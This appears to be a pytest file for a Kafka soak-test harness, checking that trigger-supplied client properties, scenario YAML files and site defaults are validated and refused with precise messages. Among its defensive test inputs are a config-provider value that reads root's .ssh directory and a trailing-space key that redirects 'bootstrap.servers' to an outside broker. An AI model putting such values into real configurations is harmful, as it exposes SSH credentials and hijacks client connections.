    ({"bootstrap.servers ": "203.0.113.5:9092"}, "'bootstrap.servers ' is not a setting a run may change"),
    ({"linger.ms": "${dir:/root:.ssh}"}, "app_profile.client_properties: 'linger.ms': a value may not hold '${'"),
], ids=["jaas", "protocol", "admin-bootstrap", "providers", "interceptors", "trailing-space", "provider-variable"])
def test_a_profile_the_deployment_opens_to_triggers_is_held_to_the_same_list(properties, refusal, monkeypatch,
                                                                             own_runs):
    """SOAK_TRIGGER_ALLOW lets a trigger choose a profile the deployment listed; its client_properties still pass the
    allow-list of Kafka client settings (a Java properties file reads 'bootstrap.servers ' as bootstrap.servers)."""
    profile = {**OPENED_PROFILE, "client_properties": properties}
    monkeypatch.setenv("SOAK_TRIGGER_ALLOW", json.dumps({"app_profile": [profile]}))
    admission = Admission.for_scenario(load_scenario(DAGS / "scenarios" / f"{DAG_ID}.yaml"))
    conf = {"app_profile": profile}
    assert run_plan.trigger_errors(conf, admission.defaults, admission.allow) == [], "the deployment opened it"
    assert refusal in trigger_refusal(admission, conf)
    allowed = {**OPENED_PROFILE, "client_properties": {"linger.ms": 5, "producer.transaction.timeout.ms": 30000}}
    assert run_plan.check({"app_profile": allowed})["app_profile"]["client_properties"]["linger.ms"] == 5


def test_a_trigger_s_streams_config_adds_to_the_scenario_s(monkeypatch, own_runs):
    """A scenario's Kafka Streams settings are what makes it reproduce its bug: a trigger that sets another keeps
    them, and the plan every task is given holds both."""
    admission = Admission.for_scenario(load_scenario(DAGS / "scenarios" / "bug_kafka_18943.yaml"))
    scenario = admission.defaults["streams_config"]
    assert scenario == {"producer.transaction.timeout.ms": 180000}
    conf = {"streams_config": {"producer.linger.ms": 5}}
    plan = run_plan.check(admission.merged(conf, {**admission.defaults, **conf}), admission.app_id)
    assert plan["streams_config"] == {"producer.transaction.timeout.ms": 180000, "producer.linger.ms": 5}
    conf = {"streams_config": {"producer.transaction.timeout.ms": 120000}}
    assert admission.merged(conf, {**admission.defaults, **conf})["streams_config"] == conf["streams_config"]
    conf = {"streams_config": {"producer.transaction.timeout.ms": 60000}}
    assert "commit_interval_ms: 120000 ms is longer" in trigger_refusal(admission, conf), "the scenario commits every 120 s"


def trigger_refusal(admission: Admission, conf: dict) -> str:
    with pytest.raises(ParamsError) as err:
        admission.admit(conf, {**admission.defaults, **conf})
    return str(err.value)


SCENARIO_FILES = {
    "unreadable.yaml": "dag_id: [unclosed\n",
    "a_list.yaml": "- dag_id: x\n",
    "no_dag_id.yaml": "params: {records: 10}\n",
    "typo.yaml": "dag_id: soak_typo\nparams:\n  recrods: 10\n",
    "wrong_type.yaml": "dag_id: soak_wrong_type\nparams:\n  instances: three\n",
    "bad_profile.yaml": "dag_id: soak_bad_profile\nparams:\n  app_profile: {name: [x], group_id: a, versions: 3, "
                        "inputs: [{topic: [], value: {encoding: []}}], outputs: [{topic: o, of: {}}]}\n",
}


def test_a_bad_scenario_file_costs_only_itself(tmp_path, monkeypatch):
    """A folder with one good scenario and files that are no scenario, set a param that does not exist, a value its
    schema refuses or a malformed profile: every file gets its DAG (the good one as it is), and each run of a bad one
    is refused in one line that names the file and the field."""
    from kafka_soak.factory import build_all

    monkeypatch.delenv("SOAK_ONLY_SCENARIOS", raising=False)
    (tmp_path / f"{DAG_ID}.yaml").write_text((DAGS / "scenarios" / f"{DAG_ID}.yaml").read_text())
    for name, text in SCENARIO_FILES.items():
        (tmp_path / name).write_text(text)
    dags = build_all(tmp_path)
    refusals = {dag_id: dag.get_task("check_params").admission.refusal for dag_id, dag in dags.items()}
    assert refusals == {
        DAG_ID: "",
        "unreadable": "unreadable.yaml: cannot be read as YAML (while parsing a flow sequence)",
        "a_list": "a_list.yaml: must be a mapping with dag_id and params (got list)",
        "no_dag_id": "no_dag_id.yaml: dag_id must be 1-200 of A-Z a-z 0-9 _ . - (got None)",
        "soak_typo": refusals["soak_typo"], "soak_wrong_type": refusals["soak_wrong_type"],
        "soak_bad_profile": refusals["soak_bad_profile"]}, refusals
    assert refusals["soak_typo"].startswith("typo.yaml: unknown params ['recrods']; known: ")
    assert refusals["soak_wrong_type"] == "wrong_type.yaml: param instances: 'three' is not of type 'integer'"
    assert refusals["soak_bad_profile"].startswith("the defaults of soak_bad_profile (its scenario file and "
                                                   "SOAK_PARAM_DEFAULTS) cannot run: app_profile.name: must be 1-200")
    assert "app_profile.inputs[0].topic: [] is no topic name" in refusals["soak_bad_profile"]
    assert all(dags[d].schedule is None for d in ("unreadable", "a_list", "no_dag_id", "soak_typo")), "never nightly"


def test_a_malformed_site_default_profile_costs_only_the_runs_it_reaches(monkeypatch):
    """The same malformed profile in SOAK_PARAM_DEFAULTS: every shipped DAG still imports and refuses its runs naming
    the profile's fields."""
    from kafka_soak.factory import build_all

    monkeypatch.delenv("SOAK_ONLY_SCENARIOS", raising=False)
    monkeypatch.setenv("SOAK_PARAM_DEFAULTS", json.dumps({"app_profile": {
        "name": ["x"], "group_id": "a", "versions": 3, "inputs": [{"topic": {}, "value": {"encoding": {}}}],
        "outputs": [{"topic": "o", "contract": "one-to-one", "of": []}], "topics": [{"name": []}]}}))
    dags = build_all(DAGS / "scenarios")
    assert len(dags) == len(list((DAGS / "scenarios").glob("*.yaml")))
    for dag in dags.values():
        refusal = dag.get_task("check_params").admission.refusal
        assert "app_profile.name: must be 1-200" in refusal and "app_profile.versions: must be a list" in refusal, refusal


def test_what_the_owner_s_command_sets_for_the_deployment_wins_over_the_scenario_file(monkeypatch, own_runs):
    """`make soak SCENARIO=soak_quota_eos CONF='{"backend": "external", ..., "quotas": []}'`: the scenario's 35 000 B/s
    quota, meant for the run's own broker, does not reach the shared cluster the owner chose; a trigger still may not
    choose another value."""
    from kafka_soak.cli import as_owner

    conf = {"backend": "external", "kafka_conn_id": "kafka_staging", "quotas": []}
    env, trigger = as_owner(conf, {})
    assert trigger == conf
    monkeypatch.setenv("SOAK_TRIGGER_ALLOW", env["SOAK_TRIGGER_ALLOW"])
    admission = Admission.for_scenario(load_scenario(DAGS / "scenarios" / "soak_quota_eos.yaml"))
    assert admission.defaults["quotas"][0]["producer_byte_rate"] == 35_000
    assert run_plan.trigger_errors(trigger, admission.defaults, admission.allow) == []
    params = admission.merged(trigger, {**admission.defaults, **trigger})
    assert run_plan.check(params, admission.app_id)["quotas"] == []
    other = {**trigger, "quotas": [{"client_id": "anyone", "producer_byte_rate": 1}]}
    assert run_plan.trigger_errors(other, admission.defaults, admission.allow)[0].startswith("quotas: decides")


def test_the_owner_s_command_refuses_a_deployment_allow_list_it_cannot_add_to(capsys, own_runs, monkeypatch):
    monkeypatch.setenv("SOAK_TRIGGER_ALLOW", '{"kafka_conn_id": "kafka_staging"}')
    refusal = cli_refusal({"kafka_conn_id": "kafka_staging"}, capsys, own_runs)
    assert refusal == "kafka-soak: SOAK_TRIGGER_ALLOW: kafka_conn_id must list the values a trigger may choose\n"
